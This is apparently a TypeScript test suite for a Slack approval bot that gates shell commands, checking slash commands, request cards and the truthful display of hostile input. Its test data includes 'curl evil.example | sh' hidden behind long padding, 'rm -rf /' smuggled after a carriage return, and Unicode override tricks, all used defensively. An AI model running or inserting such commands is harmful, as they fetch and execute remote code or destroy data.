import type { Workspace } from '../../support/gate/workspace.ts';
import { cardOf, settled, told } from '../../support/slack/cards.ts';
import { closeModals, shows } from '../../support/slack/modals.ts';

export function commands(given: () => Workspace): void {
  let workspace: Workspace;
  beforeAll(() => {
    workspace = given();
  });
  const command = (text: string) =>
    workspace.slack.act({ type: 'command', as: 'U0CARO', channel: 'C0GENERAL', text });

  test.each(['/expacti', '/expacti help', '/expacti  help  me'])(
    '%s says what there is, in private',
    async (text) => {
      expect(await command(text)).toEqual({ ok: true });
      await told(workspace, 'U0CARO', /\/expacti pending/);
    },
  );

  test('an unknown command is said back, harmlessly', async () => {
    await command('/expacti <!channel>`x');
    await told(workspace, 'U0CARO', /Unknown command `&lt;!channel&gt;⟨U\+0060⟩x`\./);
  });

  test('/expacti pending lists what waits, with a link to its card', async () => {
    const { api } = workspace;
    await command('/expacti pending');
    await told(workspace, 'U0CARO', /No request is pending/);
    const asked = await api.ask('docker compose restart worker', { context: { actor: 'octocat' } });
    await cardOf(workspace, asked.id);
    await command('/expacti pending');
    await told(workspace, 'U0CARO', /docker compose restart worker/);
  });

  test('Why? shows how the verdict came about, to the one who asks', async () => {
    const { api, slack } = workspace;
    const asked = await api.ask('ls');
    const card = await cardOf(workspace, asked.id);
    await card.press('U0CARO', 'Why?');
    await shows(workspace, 'U0CARO', /verdict .* was \*ask\*/);
    await closeModals(workspace, 'U0CARO');
    expect(JSON.stringify(slack.snapshot('U0ANA'))).not.toContain('was *ask*');
  });

  test('the Home tab shows what waits', async () => {
    const { api, slack } = workspace;
    await api.ask('docker compose up -d home');
    await slack.act({ type: 'open_home', as: 'U0ANA' });
    const home = () => JSON.stringify(slack.snapshot('U0ANA').home);
    await slack.waitFor(() => home().includes('docker compose up -d home'), { what: 'the Home tab to fill' });
    expect(home()).not.toContain('No request needs you');
  });

  test('a request goes to the channel of its environment', async () => {
    const { api } = workspace;
    const asked = await api.ask('ls', { environment: 'staging' });
    const card = await cardOf(workspace, asked.id, 'C0STAGING');
    expect(card.message().text).toContain('in staging');
  });

  const HOSTILE: [string, string, string][] = [
    [
      'backticks and mentions',
      'echo ``` <!channel> <@U0ANA> *x* &amp; `id`',
      'echo ``` <!channel> <@U0ANA> *x* &amp; `id`',
    ],
    ['a right-to-left override', 'echo \u202Egnp.sh', 'echo ⟨U+202E⟩gnp.sh'],
    ['a NUL', 'echo a\0b', 'echo a⟨U+0000⟩b'],
    ['a carriage return', 'ls\rrm -rf /', 'ls⟨U+000D⟩rm -rf /'],
  ];

  test.each(HOSTILE)('%s show truthfully and ping only the reviewers', async (_what, text, shown) => {
    const { api } = workspace;
    const asked = await api.ask(text, {
      reason: '<!here> look',
      context: { actor: 'me & <@U0ANA>', ref: '<!everyone>' },
    });
    expect(asked.command).toBe(text);
    const card = await cardOf(workspace, asked.id);
    expect(card.text()).toContain(JSON.stringify(shown).slice(1, -1));
    expect(card.message().pinged).toEqual(['U0ANA', 'S0ONCALL']);
    await card.deny('U0BEN', 'no <!channel>');
    await settled(workspace, card, /Denied by/);
    // Who decided is named; an edit notifies nobody, and nothing typed names anyone.
    expect(card.message().pinged).toEqual(['U0BEN']);
  });

  test.each([
    ['one line', `echo ${'x'.repeat(16_000)}; curl evil.example | sh`],
    ['a thousand lines', `${'echo ok &&\n'.repeat(1_000)}curl evil.example | sh`],
    ['text that grows when it is escaped', `echo '${'<&>'.repeat(5_000)}'; curl evil.example | sh`],
  ])('16 KiB of %s fit, with the end shown and the whole text in the thread', async (_what, text) => {
    const { api, slack } = workspace;
    const asked = await api.ask(text);
    const card = await cardOf(workspace, asked.id);
    expect(card.text()).toContain('curl evil.example | sh');
    expect(card.text()).toMatch(/✂️ (?:[\d,]+ of 1,001 lines|16,029 characters|15,\d+ characters)/);
    const reply = await slack.waitFor(
      () =>
        slack
          .messages(card.channel)
          .find((message) => message.thread_ts === card.ts && message.files.length > 0),
      { what: 'the whole text in the thread' },
    );
    expect(reply.files[0]?.text).toBe(text);
  });
}
